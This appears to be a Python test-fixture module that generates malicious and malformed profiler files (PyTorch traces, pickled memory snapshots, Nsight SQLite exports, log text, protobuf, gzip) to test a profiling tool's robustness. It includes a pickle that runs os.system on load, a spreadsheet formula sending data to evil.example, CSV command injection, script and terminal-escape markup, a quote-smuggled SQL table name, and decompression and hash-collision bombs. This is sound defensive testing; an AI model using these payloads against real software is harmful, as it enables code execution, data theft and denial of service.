"""Profiles that were written to cost memory or time, to run code, or to give wrong numbers; one
function makes each.
"""

import contextlib
import gzip
import json
import os
import pickle
import sqlite3
import struct
import tempfile
import zlib
from pathlib import Path

from ..profiling.readers.made_profiles import PROFILES
from ..server_logs import iteration, sglang_log, vllm_start

SCRATCH = "/dev/shm" if Path("/dev/shm").is_dir() else None  # in memory
MIB = 1 << 20
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
MARKUP = "\x1b]0;owned\x07\x1b[2J</script><script>alert(1)</script><!--DATA-->"


def event(category, name, begin, length, pid=0, tid=7, **args):
    """A complete event of a Chrome trace."""
    return {
        "ph": "X",
        "cat": category,
        "name": name,
        "ts": begin,
        "dur": length,
        "pid": pid,
        "tid": tid,
        "args": args,
    }


def steps(count=3, kernel="k", operator="aten::conv2d", **changes):
    """Events of some steps, each with an operator, a launch and a kernel; changes of the first
    kernel.
    """
    events = []
    for step in range(count):
        at, call = 1000 * step, {"External id": step + 1}
        shape = [[8, 3, 32, 32], [4, 3, 3, 3], []]
        launched = event(
            "kernel",
            kernel,
            at + 50,
            500,
            correlation=100 + step,
            device=0,
            stream=7,
            grid=[1, 1, 1],
            block=[32, 1, 1],
        )
        events += [
            event("user_annotation", f"ProfilerStep#{step}", at, 900, 1, 1),
            event("cpu_op", operator, at + 10, 100, 1, 1, **call, **{"Input Dims": shape}),
            event(
                "cuda_runtime", "cudaLaunchKernel", at + 20, 5, 1, 1, correlation=100 + step, **call
            ),
            launched,
        ]
    events[3].update(changes)
    return events


def with_args(position, **args):
    events = steps()
    events[position]["args"].update(args)
    return events


def trace(events, **document):
    return json.dumps({"schemaVersion": 1, **document, "traceEvents": events})


def replaced(old, new):
    return trace(steps()).replace(old, new)


def overlapping(count, length):
    """Kernels of many streams that all run at once."""
    events = []
    for step in range(3):
        events.append(event("user_annotation", f"ProfilerStep#{step}", step, length, 1, 1))
        events += [
            event(
                "kernel",
                f"k{n}",
                step + n,
                length,
                0,
                n,
                correlation=step * count + n,
                device=0,
                stream=n,
            )
            for n in range(count)
        ]
    return trace(events)


OVER = [
    event("kernel", "over", 500 + n, 700, correlation=100, device=0, stream=7) for n in range(200)
]
NESTED = "[" * 200_000 + "]" * 200_000
ODD_TYPES = [
    {
        "ph": "X",
        "cat": ["kernel"],
        "name": {"a": 1},
        "ts": "x",
        "dur": None,
        "pid": [],
        "tid": {},
        "args": "s",
    },
    5,
    None,
    "x",
    [1],
    {"ph": 5, "cat": 5, "name": 5},
]
TRACES = {
    "plain": lambda: trace(steps()),
    "nested arguments": lambda: trace(steps())[:-2] + f', {{"ph": "X", "args": {NESTED}}}]}}',
    "nested head": lambda: f'{{"schemaVersion": 1, "x": {NESTED}, "traceEvents": []}}',
    "nested tail": lambda: trace(steps())[:-1] + f', "x": {NESTED}}}',
    "nested events": lambda: f'{{"schemaVersion": 1, "traceEvents": {NESTED}}}',
    "NaN and infinity": lambda: replaced('"ts": 1050', '"ts": NaN').replace("500", "Infinity", 1),
    "time 2^63": lambda: trace(steps(ts=2**63)),
    "time 2^63 ns": lambda: trace(steps(ts=2**63 // 1000)),
    "time 1e308": lambda: trace(steps(ts=1e308)),
    "time -5": lambda: trace(steps(ts=-5)),
    "time of 4,000 digits": lambda: trace(steps(ts=int("9" * 4000))),
    "time of 6,000 digits": lambda: replaced('"ts": 1050', f'"ts": {"9" * 6000}'),
    "negative duration": lambda: trace(steps(dur=-5)),
    "kernels of 146 years": lambda: trace(steps(dur=2**62 // 1000 - 1)).replace(
        '"dur": 500', f'"dur": {2**62 // 1000}'
    ),
    "27 kernels of 71 years at once": lambda: overlapping(9, 2**51),
    "overlapping steps": lambda: trace(steps() + OVER),
    "two lists of events": lambda: (
        trace(steps())[:-1] + f', "traceEvents": {json.dumps(steps(1))}}}'
    ),
    "values of wrong types": lambda: trace(steps() + ODD_TYPES),
    "arguments of wrong types": lambda: trace(
        with_args(3, grid=[2**40, -1, 1.5], block="x", stream="a" * 100, device=-7)
    ),
    "call number 2^64": lambda: trace(with_args(1, **{"External id": 2**64})),
    "shape of 2^62": lambda: trace(with_args(1, **{"Input Dims": [[2**62] * 4] * 2})),
    "shape of 100,000 dimensions": lambda: trace(with_args(1, **{"Input Dims": [[1] * 100_000]})),
    "lone surrogates": lambda: trace(steps(kernel="k\ud800\udfff\udc00")),
    "zero character in a name": lambda: trace(steps(kernel="k\0x")),
    "name of 64 kB": lambda: trace(steps(kernel="void a<" * 9000)),
    "UTF-16": lambda: trace(steps()).encode("utf-16"),
    "cut off": lambda: trace(steps())[:-30],
    "markup and escapes in names": lambda: trace(
        steps(kernel=MARKUP, operator="=cmd|'/C calc'!A0")
    ),
    "formulas in names": lambda: trace(steps(kernel=FORMULA, operator="@SUM(1+1)")),
    "12,500 names": lambda: trace(
        [
            event(
                "kernel",
                f"void f<{n}, Functor{n}<float> >(int)",
                10 * n,
                9,
                correlation=n,
                device=0,
                stream=7,
            )
            for n in range(12_500)
        ]
    ),
    "20,000 streams": lambda: trace(
        [
            event("kernel", "k", n, 30_000, 0, n, correlation=n, device=0, stream=n)
            for n in range(20_000)
        ]
    ),
    "ranges nested 5,000 deep": lambda: trace(
        steps()
        + [event("user_annotation", f"r{n}", n * 0.01, 890 - n * 0.02, 1, 1) for n in range(5_000)]
    ),
}


def allocation(action, size, address, frames=()):
    return {
        "action": action,
        "size": size,
        "addr": address,
        "stream": 0,
        "time_us": 1,
        "frames": list(frames),
    }


def snapshot(events):
    segment = {"device": 0, "address": 0x1000, "total_size": 100, "stream": 0, "blocks": []}
    return pickle.dumps({"segments": [segment], "device_traces": [events]}, 4)


class Runs:
    """Calls a function of the system when it is unpickled."""

    def __reduce__(self):
        return os.system, ("touch PWNED",)


def shared_frames():
    one = allocation("alloc", 1, 1, [{"filename": "x.py", "name": "y", "line": 1}] * 30_000)
    return snapshot([one] * 30_000)


def colliding_keys():
    """Written by hand: a dictionary of them takes as long to make as to read."""
    numbers = ((number * (2**61 - 1)).to_bytes(10, "little") for number in range(1, 60_001))
    keys = b"".join(b"\x8a\x0a" + number + b"K\x00" for number in numbers)
    return HEAD.replace(b"}X", b"}(X") + b"]X\x01\x00\x00\x00x}(" + keys + b"uu."


HEAD = b"\x80\x04}X\x08\x00\x00\x00segments"
SNAPSHOTS = {
    "plain": lambda: snapshot([allocation("alloc", 100, 4096)]),
    "object of Python": lambda: pickle.dumps({"segments": [Runs()], "device_traces": [[]]}),
    "memo of 2^30": lambda: HEAD + b"r\xff\xff\xff\x3fs.",
    "text of 8 GB": lambda: HEAD + b"\x8d" + struct.pack("<Q", 1 << 33) + b"x",
    "frame of 1 TB": lambda: b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + HEAD[2:],
    "nested": lambda: HEAD + b"]" * 300_000 + b"a" * 299_999 + b"s.",
    "values of wrong types": lambda: pickle.dumps(
        {"segments": [5], "device_traces": [[{"action": "alloc", "size": "x", "addr": None}]]}
    ),
    "list": lambda: pickle.dumps(["segments"]),
    "blocks of 2^62 bytes": lambda: snapshot(
        [allocation("alloc", 2**62, 4096 * n) for n in (1, 2, 4)]
    ),
    "negative size": lambda: snapshot(
        [allocation("alloc", -100, 4096), allocation("free_requested", -100, 4096)]
    ),
    "shared frames": shared_frames,
    "colliding keys": colliding_keys,
    "duplicated memo": lambda: HEAD + b"]" + b"\x94h\x00a" * 200_000 + b"s.",
}

STRINGS = "ALTER TABLE StringIds RENAME TO s0"
KERNELS = "CUPTI_ACTIVITY_KIND_KERNEL"


def computed(value):
    """Statements that make the text of every name a computed one."""
    column = f"value TEXT GENERATED ALWAYS AS ({value}) VIRTUAL"
    made = f"CREATE TABLE StringIds (id INTEGER NOT NULL PRIMARY KEY, v0 TEXT, {column})"
    return STRINGS, made, "INSERT INTO StringIds (id, v0) SELECT id, value FROM s0"


ENDLESS = (
    "WITH RECURSIVE r(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM r) SELECT i AS id, 'x' AS value "
    "FROM r"
)
STATEMENTS = {
    "plain": (),
    "view of kernels": (
        f"ALTER TABLE {KERNELS} RENAME TO k",
        f"CREATE VIEW {KERNELS} AS SELECT * FROM k",
    ),
    "endless view of names": ("DROP TABLE StringIds", f"CREATE VIEW StringIds AS {ENDLESS}"),
    "trigger": (f"CREATE TRIGGER t AFTER INSERT ON StringIds BEGIN DELETE FROM {KERNELS}; END",),
    "computed names of 800 MB": computed("hex(zeroblob(400000000))"),
    "computed names of hours": computed("v0 || (hex(zeroblob(3000)) LIKE '%0%0%0%0%0%0%0%0%1')"),
    "text as time": (f"UPDATE {KERNELS} SET start = 'abc' WHERE rowid = 5",),
    "bytes as number": (f"UPDATE {KERNELS} SET correlationId = x'00ff' WHERE rowid = 5",),
    "time 1.5e300": (f"UPDATE {KERNELS} SET start = 1.5e300 WHERE rowid = 5",),
    "negative durations": (f"UPDATE {KERNELS} SET end = start - 100 WHERE rowid % 2 = 0",),
    "duration of 2^64": (
        f"UPDATE {KERNELS} SET end = 9223372036854775807, start = -9223372036854775807 WHERE rowid "
        "= 7",
    ),
    "durations of 2^62": (
        f"UPDATE {KERNELS} SET end = start + 4611686018427387904 WHERE rowid < 9",
    ),
    "largest number of a name": (
        "UPDATE StringIds SET id = 9223372036854775807 WHERE id = (SELECT max(id) FROM StringIds)",
    ),
    "markup in names": (
        "UPDATE StringIds SET value = '</script><img src=x onerror=alert(1)>' || char(27) || "
        "']0;x' || value",
    ),
    "table named with a quote": (
        'CREATE TABLE "CUPTI_ACTIVITY_KIND_X""; ATTACH" (id INTEGER, value TEXT)',
    ),
    "2,000 tables": tuple(f"CREATE TABLE t{n} (a, b, c)" for n in range(2_000)),
}


def export(statements):
    """A real export of Nsight Systems after some statements."""
    with tempfile.NamedTemporaryFile(suffix=".sqlite", dir=SCRATCH) as file:
        file.write(exported())
        file.flush()
        with contextlib.closing(sqlite3.connect(file.name)) as database:
            for statement in statements:
                database.execute(statement)
            database.commit()
        return Path(file.name).read_bytes()


def exported():
    return gzip.decompress((PROFILES / "pipit_cloverleaf.sqlite.gz").read_bytes())


def cyclic():
    """Pages of tables that name themselves as their last child."""
    data = bytearray(exported())
    size = struct.unpack(">H", data[16:18])[0]
    for page in range(1, len(data) // size):
        if data[page * size] == 5:
            struct.pack_into(">I", data, page * size + 8, page + 1)
    return bytes(data)


def overwritten(at, with_bytes):
    data = bytearray(exported())
    data[at : at + len(with_bytes)] = with_bytes
    return bytes(data)


DATABASES = {
    "damaged head": lambda: overwritten(100, b"\xff" * 40),
    "pages of 64 kB": lambda: overwritten(16, b"\x00\x01"),
    "pages in a circle": cyclic,
    "cut in half": lambda: exported()[: len(exported()) // 2],
}

NCU = (
    '"ID","Process ID","Process Name","Host Name","Kernel Name","Context","Stream","Block '
    'Size","Grid Size","Device","CC","Section Name","Metric Name","Metric Unit","Metric Value"\n'
)


def metric(number, kernel, unit, value, name="gpu__time_duration.sum"):
    cells = f'"{number}","1","p","h","{kernel}","1","7","(32, 1, 1)","(1, 1, 1)","0","8.0","s"'
    return f'{cells},"{name}","{unit}","{value}"\n'


NVPROF = (
    "==1== Profiling application: ./x --token=abc\n==1== Profiling result:\n"
    "   Start  Duration            Grid Size      Block Size     Regs*    SSMem*    DSMem*      "
    "Size  Throughput  SrcMemType  DstMemType           Device   Context    Stream  Name\n"
    "1e308s  1e308s  (1 1 1) (1 1 1) 1 0B 0B - - - - Dev (0) 1 7 k [1]\n"
)
TEXTS = {
    "ncu, plain": lambda: NCU + "".join(metric(n, "k", "nsecond", 1000) for n in range(5)),
    "ncu, no numbers": lambda: (
        NCU + "".join(metric(n, "k", "nsecond", v) for n, v in enumerate(("nan", "1e400", -5, "٣")))
    ),
    "ncu, kernels of 127 billion years": lambda: (
        NCU + "".join(metric(n, "k", "second", 4e18) for n in range(9))
    ),
    "ncu, formulas": lambda: (
        NCU
        + "".join(
            metric(n, k, "nsecond", 9) for n, k in enumerate(("=HYPERLINK(1)", "@SUM(1)", "-2+3"))
        )
    ),
    "ncu, line of 5 MB": lambda: NCU + f'"{"x" * (5 * MIB)}"\n',
    "ncu, 300,000 columns": lambda: (
        '"ID","Process ID",'
        + ",".join(f'"c{n}"' for n in range(300_000))
        + '\n"0","1",'
        + ",".join("1" * 300_000)
        + "\n"
    ),
    "nvprof, time 1e308": lambda: NVPROF,
    "vLLM, time 1e300": lambda: vllm_start() + iteration(0, 5, 1e300) + iteration(1, 5, 9),
    "vLLM, 10^9 requests": lambda: (
        vllm_start() + "".join(iteration(n, 10**9 - 1, 9) for n in range(50))
    ),
    "vLLM, 50,000 sizes": lambda: (
        vllm_start() + "".join(iteration(n, n // 2 + 1, 9) for n in range(100_000))
    ),
    "vLLM, captured sizes of 8 kB": lambda: (
        vllm_start(captured=tuple(range(1, 1900))) + iteration(0, 5, 9)
    ),
    "SGLang, 20,000 engines": lambda: "".join(
        sglang_log([9, 9], lambda _: 9, 32).replace("Decode", f"DP{n} Decode")
        for n in range(20_000)
    ),
    "server, line of 20 MB": lambda: (
        vllm_start() + iteration(0, 5, 9) + "Iteration(" * (2 * MIB) + "\n"
    ),
    "llama.cpp, 200,000 columns": lambda: (
        "| PP | TG | B | N_KV |"
        + " x |" * 200_000
        + "\n"
        + "| 1 | 1 | 1 | 1 |"
        + " 1 |" * 200_000
        + "\n"
    ),
    "llama.cpp, odd numbers": lambda: (
        "| PP | TG | B | N_KV | T_PP s | S_PP t/s | T_TG s | S_TG t/s | T s | S t/s |\n|-|\n"
        + "| 1 | 0 | -1 | 9 | nan | 1 | 1e400 | 1 | 1 | 1 |\n| 1 | 1 | 99999999999 | 9 | -1 | 1 | "
        "0 | 1 | 1 | 1 |\n"
    ),
}


def varint(number):
    number &= (1 << 64) - 1
    out = b""
    while number > 127:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])


def message(number, value):
    """A field of Protobuf: a whole number or bytes."""
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    return varint(number << 3 | 2) + varint(len(value)) + value


def xspace(events, begin_ns=0):
    names = message(4, message(1, 0) + message(2, message(2, b"k")))
    line = message(1, 1) + message(2, b"Stream #1(Compute)") + message(3, begin_ns) + events
    return message(1, message(2, b"/device:GPU:0") + message(3, line) + names)


def timed(begin_ps, length_ps):
    return message(4, message(2, begin_ps) + message(3, length_ps))


SPACES = {
    "plain": lambda: xspace(timed(1000, 5000) * 3),
    "5,000,000 empty events": lambda: xspace(message(4, b"") * 5_000_000),
    "time 2^63": lambda: xspace(timed(2**63 - 1, 2**63 - 1), 2**63 - 1),
    "negative times": lambda: xspace(timed(-1, -5), -(2**63)),
    "durations of 2^62": lambda: xspace(timed(0, 2**62) * 4),
    "nested": lambda: xspace(b"") + b"\x0b" * 200_000,
}


def packed(*pieces):
    """Gzip of pieces, each a pair of bytes and of how often they come."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    out = [packer.compress(data) for data, count in pieces for _ in range(count)]
    return b"".join([*out, packer.flush()])


PACKED = {
    "gzip in gzip": lambda: gzip.compress(gzip.compress(trace(steps()).encode())),
    "200,000 empty members": lambda: (
        gzip.compress(b"") * 200_000 + gzip.compress(trace(steps()).encode())
    ),
    "ncu, 1,000,000 equal rows": lambda: packed(
        (NCU.encode(), 1), (metric(0, "k" * 500, "nsecond", 9).encode() * 1000, 1000)
    ),
}
LARGE = {
    "3 GB of spaces in 3 MB": lambda: packed(
        (b'{"schemaVersion":1,"traceEvents":[', 1), (b" " * MIB, 3000)
    ),
    "1.5 GB of a database in 1.5 MB": lambda: packed((b"SQLite format 3\0", 1), (bytes(MIB), 1500)),
    "names of 20 MB": lambda: trace(steps(kernel="n" * (20 * MIB))),
    "names of 70 MB": lambda: trace(steps(kernel="n" * (70 * MIB))),
}


def named_files(kind, suffix, made):
    """Files by kind and name, each with the end of its name and the function that makes it."""
    return {f"{kind}: {name}": (suffix, make) for name, make in made.items()}


SMALL_FILES = {
    **named_files("PyTorch", ".json", TRACES),
    **named_files("memory snapshot", ".pickle", SNAPSHOTS),
    **{
        f"Nsight Systems: {name}": (".sqlite", lambda done=done: export(done))
        for name, done in STATEMENTS.items()
    },
    **named_files("Nsight Systems", ".sqlite", DATABASES),
    **named_files("text", ".txt", TEXTS),
    **named_files("XSpace", ".xplane.pb", SPACES),
    **named_files("gzip", ".gz", PACKED),
}
LARGE_FILES = named_files("large", ".json", LARGE)
